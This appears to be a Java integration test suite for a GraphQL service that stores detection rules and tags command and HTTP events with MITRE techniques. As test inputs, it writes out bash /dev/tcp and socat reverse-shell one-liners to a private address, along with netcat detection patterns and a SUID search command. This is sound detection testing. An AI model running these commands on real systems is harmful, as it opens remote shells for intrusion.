package dev.steward.app.graphql.rules;

import static org.assertj.core.api.Assertions.assertThat;

import dev.steward.app.Callers;
import dev.steward.app.GraphQlHttp;
import dev.steward.app.GraphQlHttp.Response;
import dev.steward.app.security.ApiTokens;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.context.SpringBootTest.WebEnvironment;
import org.springframework.boot.test.web.server.LocalServerPort;

/** Rules end to end over HTTP and graphql-ws, with the database store (the default). */
@SpringBootTest(webEnvironment = WebEnvironment.RANDOM_PORT, properties = "steward.rules.expiry-interval=200ms")
class RulesGraphQlIntegrationTests {

	static final AtomicInteger IDS = new AtomicInteger();

	static final String UPSERT = """
			mutation($yaml: String!) {
			  upsertRule(input: {yaml: $yaml}) {
			    rule { id ruleId ruleVersion name appliesTo external revision updatedBy source
			           match { kind field pattern } emits { techniqueId subTechniqueId tactic confidence }
			           state { state } }
			  }
			}""";

	static final String SET_STATE = """
			mutation($input: SetRuleStateInput!) {
			  setRuleState(input: $input) { rule { ruleId state { state confidenceMax expiresAt reason setBy setAt } } }
			}""";

	static final String EVALUATE = """
			query($kind: SourceKind!, $id: String, $payload: JSON!) {
			  evaluateEvent(input: {sourceKind: $kind, sourceId: $id, payload: $payload}) {
			    rulesConsidered
			    matches { ruleId ruleVersion name tags { id techniqueId subTechniqueId tactic confidence baseConfidence evidence } }
			  }
			}""";

	@LocalServerPort
	int port;

	@Autowired
	ApiTokens tokens;

	GraphQlHttp graphql;

	Callers callers;

	@BeforeEach
	void client() {
		graphql = new GraphQlHttp(port);
		callers = Callers.issuedBy(tokens);
	}

	static String newRuleId() {
		return "G" + System.nanoTime() % 100_000_000 + "_" + IDS.incrementAndGet();
	}

	static String rule(String ruleId, int version, String pattern) {
		return """
				rule_id: %s
				rule_version: %d
				name: reverse_shell_%s
				applies_to: [command]
				match:
				  pattern: '%s'
				emits:
				  - {tactic: TA0002, technique_id: T1059, sub_technique_id: T1059.004, confidence: 0.9}
				evidence_fields: [command_text]
				""".formatted(ruleId, version, version, pattern);
	}

	Response evaluate(String command) {
		return graphql.post(callers.viewer(), EVALUATE,
				Map.of("kind", "COMMAND", "id", "session-1#4", "payload", Map.of("command_text", command, "user", "root")));
	}

	@Test
	void authorsARuleThatEvaluationThenMatches() {
		String ruleId = newRuleId();

		Response upserted = graphql.post(callers.author(), UPSERT, Map.of("yaml", rule(ruleId, 1, "bash -i >& /dev/tcp/")));
		Response evaluated = evaluate("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1");
		Response again = evaluate("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1");
		Response read = graphql.post(callers.viewer(),
				"query($id: ID!) { rule(id: $id) { ruleId revision history { revision ruleVersion deleted actor } } }",
				Map.of("id", ruleId));

		assertThat(upserted.hasErrors()).as(upserted.body()).isFalse();
		var rule = upserted.data().path("upsertRule").path("rule");
		assertThat(rule.path("id").asString()).isEqualTo(ruleId);
		assertThat(rule.path("appliesTo").path(0).asString()).isEqualTo("COMMAND");
		assertThat(rule.path("external").asBoolean()).isFalse();
		assertThat(rule.path("revision").asLong()).isEqualTo(1);
		assertThat(rule.path("updatedBy").asString()).startsWith("author-");
		assertThat(rule.path("emits").path(0).path("subTechniqueId").asString()).isEqualTo("T1059.004");
		assertThat(rule.path("state").path("state").asString()).isEqualTo("ENABLED");
		assertThat(evaluated.hasErrors()).as(evaluated.body()).isFalse();
		var match = evaluated.data().path("evaluateEvent").path("matches").path(0);
		assertThat(match.path("ruleId").asString()).isEqualTo(ruleId);
		var tag = match.path("tags").path(0);
		assertThat(tag.path("techniqueId").asString()).isEqualTo("T1059");
		assertThat(tag.path("confidence").asDouble()).isEqualTo(0.9);
		assertThat(tag.path("evidence").path("command_text").asString()).startsWith("bash -i");
		assertThat(tag.path("evidence").path("user").asString()).isEqualTo("root");
		assertThat(again.data().path("evaluateEvent").path("matches").path(0).path("tags").path(0).path("id").asString())
			.isEqualTo(tag.path("id").asString());
		assertThat(read.data().path("rule").path("history").path(0).path("actor").asString()).startsWith("author-");
	}

	@Test
	void aPageOfRulesCarriesEachRulesOwnHistory() {
		String first = newRuleId();
		String second = newRuleId();
		graphql.post(callers.author(), UPSERT, Map.of("yaml", rule(first, 1, "nc -lvp")));
		graphql.post(callers.author(), UPSERT, Map.of("yaml", rule(first, 2, "nc -lvnp")));
		graphql.post(callers.author(), UPSERT, Map.of("yaml", rule(second, 1, "ncat -l")));

		Map<String, List<String>> histories = new java.util.HashMap<>();
		String after = null;
		do {
			Response page = graphql.post(callers.viewer(),
					"query($after: String) { rules(first: 100, after: $after) { edges { node { ruleId history { ruleId revision ruleVersion } } } pageInfo { hasNextPage endCursor } } }",
					after == null ? Map.of() : Map.of("after", after));
			assertThat(page.hasErrors()).as(page.body()).isFalse();
			page.data().path("rules").path("edges").forEach(edge -> {
				var node = edge.path("node");
				List<String> revisions = new java.util.ArrayList<>();
				node.path("history").forEach(revision -> {
					assertThat(revision.path("ruleId").asString()).isEqualTo(node.path("ruleId").asString());
					revisions.add(revision.path("revision").asLong() + ":" + revision.path("ruleVersion").asInt());
				});
				histories.put(node.path("ruleId").asString(), revisions);
			});
			var pageInfo = page.data().path("rules").path("pageInfo");
			after = pageInfo.path("hasNextPage").asBoolean() ? pageInfo.path("endCursor").asString() : null;
		}
		while (after != null);
		assertThat(histories.get(first)).containsExactly("2:2", "1:1");
		assertThat(histories.get(second)).containsExactly("1:1");
	}

	@Test
	void clipsDisablesAndClearsARuleAsAnOperator() {
		String ruleId = newRuleId();
		graphql.post(callers.author(), UPSERT, Map.of("yaml", rule(ruleId, 1, "socat exec:")));
		Instant expiresAt = Instant.now().plusSeconds(3_600);

		Response clipped = graphql.post(callers.operator(), SET_STATE, Map.of("input", Map.of("ruleId", ruleId,
				"state", "CLIPPED", "confidenceMax", 0.4, "expiresAt", expiresAt.toString(), "reason", "noisy on the lab")));
		Response capped = evaluate("socat exec:'bash -li',pty tcp:10.0.0.1:4444");
		Response disabled = graphql.post(callers.operator(), SET_STATE,
				Map.of("input", Map.of("ruleId", ruleId, "state", "DISABLED")));
		Response skipped = evaluate("socat exec:'bash -li',pty tcp:10.0.0.1:4444");
		Response cleared = graphql.post(callers.operator(),
				"mutation($id: ID!) { clearRuleState(ruleId: $id) { rule { state { state setBy } } } }",
				Map.of("id", ruleId));
		Response matchedAgain = evaluate("socat exec:'bash -li',pty tcp:10.0.0.1:4444");

		var state = clipped.data().path("setRuleState").path("rule").path("state");
		assertThat(clipped.hasErrors()).as(clipped.body()).isFalse();
		assertThat(state.path("state").asString()).isEqualTo("CLIPPED");
		assertThat(state.path("confidenceMax").asDouble()).isEqualTo(0.4);
		assertThat(state.path("reason").asString()).isEqualTo("noisy on the lab");
		assertThat(state.path("setBy").asString()).startsWith("operator-");
		assertThat(state.path("setAt").asString()).endsWith("Z");
		var tag = capped.data().path("evaluateEvent").path("matches").path(0).path("tags").path(0);
		assertThat(tag.path("confidence").asDouble()).isEqualTo(0.4);
		assertThat(tag.path("baseConfidence").asDouble()).isEqualTo(0.9);
		assertThat(disabled.hasErrors()).as(disabled.body()).isFalse();
		assertThat(skipped.data().path("evaluateEvent").path("matches").toString()).doesNotContain(ruleId);
		assertThat(cleared.data().path("clearRuleState").path("rule").path("state").path("state").asString())
			.isEqualTo("ENABLED");
		assertThat(matchedAgain.data().path("evaluateEvent").path("matches").toString()).contains(ruleId);
	}

	@Test
	void refusesAnInvalidRuleWithEveryProblemAndKeepsTheVersionInForce() {
		String ruleId = newRuleId();
		graphql.post(callers.author(), UPSERT, Map.of("yaml", rule(ruleId, 1, "nc -e")));

		Response refused = graphql.post(callers.author(), UPSERT, Map.of("yaml",
				"rule_id: " + ruleId + "\nrule_version: 2\nname: x\napplies_to: [telepathy]\nmatch: {pattern: '(x'}\nemits: [{tactic: TA0002}]\n"));
		Response read = graphql.post(callers.viewer(), "query($id: ID!) { rule(id: $id) { ruleVersion } }",
				Map.of("id", ruleId));

		assertThat(refused.errorCode()).isEqualTo("RULE_INVALID");
		assertThat(refused.json().path("errors").path(0).path("extensions").path("problems").size()).isEqualTo(4);
		assertThat(read.data().path("rule").path("ruleVersion").asInt()).isEqualTo(1);
	}

	@Test
	void answersClientMistakesWithStableCodes() {
		String ruleId = newRuleId();
		graphql.post(callers.author(), UPSERT, Map.of("yaml", rule(ruleId, 1, "nc -e")));

		Response unknown = graphql.post(callers.operator(), SET_STATE,
				Map.of("input", Map.of("ruleId", newRuleId(), "state", "DISABLED")));
		Response badCeiling = graphql.post(callers.operator(), SET_STATE,
				Map.of("input", Map.of("ruleId", ruleId, "state", "CLIPPED", "confidenceMax", 1.5)));
		Response pastExpiry = graphql.post(callers.operator(), SET_STATE,
				Map.of("input", Map.of("ruleId", ruleId, "state", "DISABLED", "expiresAt", "2020-01-01T00:00:00Z")));
		Response badId = graphql.post(callers.author(), "mutation { deleteRule(ruleId: \"no spaces\") { ruleId } }",
				Map.of());
		Response notAnObject = graphql.post(callers.viewer(), EVALUATE,
				Map.of("kind", "COMMAND", "payload", java.util.List.of("x")));
		Response authorSetsState = graphql.post(callers.author(), SET_STATE,
				Map.of("input", Map.of("ruleId", ruleId, "state", "DISABLED")));
		Response viewerUpserts = graphql.post(callers.viewer(), UPSERT, Map.of("yaml", rule(ruleId, 2, "nc -e")));

		assertThat(unknown.errorCode()).isEqualTo("RULE_NOT_FOUND");
		assertThat(badCeiling.errorCode()).isEqualTo("RULE_STATE_INVALID");
		assertThat(pastExpiry.errorCode()).isEqualTo("RULE_STATE_INVALID");
		assertThat(badId.errorCode()).isEqualTo("RULE_ID_INVALID");
		assertThat(notAnObject.errorCode()).isEqualTo("INVALID_ARGUMENT");
		assertThat(authorSetsState.errorCode()).isEqualTo("FORBIDDEN");
		assertThat(viewerUpserts.errorCode()).isEqualTo("FORBIDDEN");
		for (Response response : new Response[] { unknown, badCeiling, pastExpiry, badId, notAnObject }) {
			assertThat(response.status()).isEqualTo(200);
		}
	}

	@Test
	void streamsEveryChangeIncludingDeletionsAndAnExpiryNobodyRead() throws Exception {
		String ruleId = newRuleId();
		long after = graphql.post(GraphQlHttp.ADMIN_TOKEN, "{ eventLogHead(context: \"rules\") { sequence } }")
			.data()
			.path("eventLogHead")
			.path("sequence")
			.asLong();

		try (RuleChangesClient worker = new RuleChangesClient(port, callers.viewer(), after)) {
			graphql.post(callers.author(), UPSERT, Map.of("yaml", rule(ruleId, 1, "nc -e")));
			graphql.post(callers.operator(), SET_STATE, Map.of("input", Map.of("ruleId", ruleId, "state", "DISABLED",
					"expiresAt", Instant.now().plusMillis(700).toString())));
			var changes = worker.next(ruleId, 3, Duration.ofSeconds(15));
			graphql.post(callers.author(), "mutation($id: ID!) { deleteRule(ruleId: $id) { ruleId } }",
					Map.of("id", ruleId));
			var deletion = worker.next(ruleId, 1, Duration.ofSeconds(15));

			assertThat(changes).extracting(change -> change.get("kind")).containsExactly("DEFINITION", "STATE", "STATE");
			assertThat(changes.get(0).get("source")).isEqualTo(rule(ruleId, 1, "nc -e"));
			assertThat(changes.get(1)).extractingByKey("state").asString().contains("DISABLED");
			assertThat(changes.get(2).get("autoRevert")).isEqualTo(true);
			assertThat(changes.get(2).get("actor")).isEqualTo("steward:rule-expiry");
			assertThat(deletion.getFirst().get("kind")).isEqualTo("DELETION");
		}
		try (RuleChangesClient resumed = new RuleChangesClient(port, callers.viewer(), after)) {
			assertThat(resumed.next(ruleId, 4, Duration.ofSeconds(15))).extracting(change -> change.get("kind"))
				.containsExactly("DEFINITION", "STATE", "STATE", "DELETION");
		}
		Response history = graphql.post(callers.viewer(),
				"query($id: ID!) { rule(id: $id) { ruleId } ruleHistory(ruleId: $id) { revision deleted } }",
				Map.of("id", ruleId));
		assertThat(history.data().path("rule").isNull()).isTrue();
		assertThat(history.data().path("ruleHistory").path(0).path("deleted").asBoolean()).isTrue();
	}

	@Test
	void listsRulesByFilterAndVerifiesTheViews() {
		String ruleId = newRuleId();
		graphql.post(callers.author(), UPSERT, Map.of("yaml", rule(ruleId, 1, "nc -e")));
		graphql.post(callers.operator(), SET_STATE, Map.of("input", Map.of("ruleId", ruleId, "state", "DISABLED")));

		Response disabled = graphql.post(callers.viewer(),
				"{ rules(filter: {state: DISABLED, sourceKind: COMMAND}, first: 100) { edges { node { ruleId } } } }");
		Response http = graphql.post(callers.viewer(),
				"{ rules(filter: {sourceKind: HTTP_REQUEST}, first: 100) { edges { node { ruleId } } } }");
		Response store = graphql.post(callers.viewer(), "{ ruleStore { kind directory problems } }");
		Response verified = graphql.post(GraphQlHttp.ADMIN_TOKEN,
				"{ verifyRulesViews { consistent eventsReplayed differences { view key problem } } }");

		assertThat(disabled.data().path("rules").path("edges").toString()).contains(ruleId);
		assertThat(http.data().path("rules").path("edges").toString()).doesNotContain(ruleId);
		assertThat(store.data().path("ruleStore").path("kind").asString()).isEqualTo("database");
		assertThat(verified.hasErrors()).as(verified.body()).isFalse();
		assertThat(verified.data().path("verifyRulesViews").path("consistent").asBoolean())
			.as(verified.body())
			.isTrue();
	}

	@Test
	void loadsTheSampleRulesAndTagsTheirEvents() throws Exception {
		try (var files = Files.list(Path.of("..", "rules"))) {
			for (Path file : files.sorted().toList()) {
				Response upserted = graphql.post(callers.author(), UPSERT, Map.of("yaml", Files.readString(file)));
				assertThat(upserted.hasErrors()).as(upserted.body()).isFalse();
			}
		}

		Response suid = evaluate("find / -perm -4000 -type f 2>/dev/null");
		Response sqlmap = graphql.post(callers.viewer(), EVALUATE, Map.of("kind", "HTTP_REQUEST", "payload",
				Map.of("raw_url", "/item?id=1", "user_agent", "sqlmap/1.8#stable (https://sqlmap.org)")));
		Response lifters = graphql.post(callers.viewer(),
				"{ rules(filter: {external: true}, first: 100) { edges { node { ruleId match { kind } } } } }");

		assertThat(suid.data().path("evaluateEvent").path("matches").toString()).contains("R0015");
		assertThat(sqlmap.data().path("evaluateEvent").path("matches").path(0).path("tags").size()).isEqualTo(2);
		assertThat(lifters.data().path("rules").path("edges").toString()).contains("R0001")
			.contains("lifter:credential_auth_brute_generic");
	}
}
